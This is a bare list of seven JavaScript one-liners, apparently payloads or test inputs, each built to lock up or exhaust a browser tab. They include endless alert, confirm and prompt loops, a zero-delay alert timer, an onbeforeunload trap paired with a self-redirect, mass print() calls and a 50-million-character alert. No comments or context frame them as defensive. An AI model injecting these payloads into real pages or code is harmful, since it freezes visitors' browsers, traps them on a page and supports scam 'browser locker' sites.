while (true) alert(1)
setInterval(() => alert('again'), 0)
while (confirm('again?') || true);
for (;;) prompt('name', 'x'.repeat(1e5))
onbeforeunload = () => 'stay'; location = '?x'
for (let n = 0; n < 1e5; n++) print()
alert('x'.repeat(5e7))
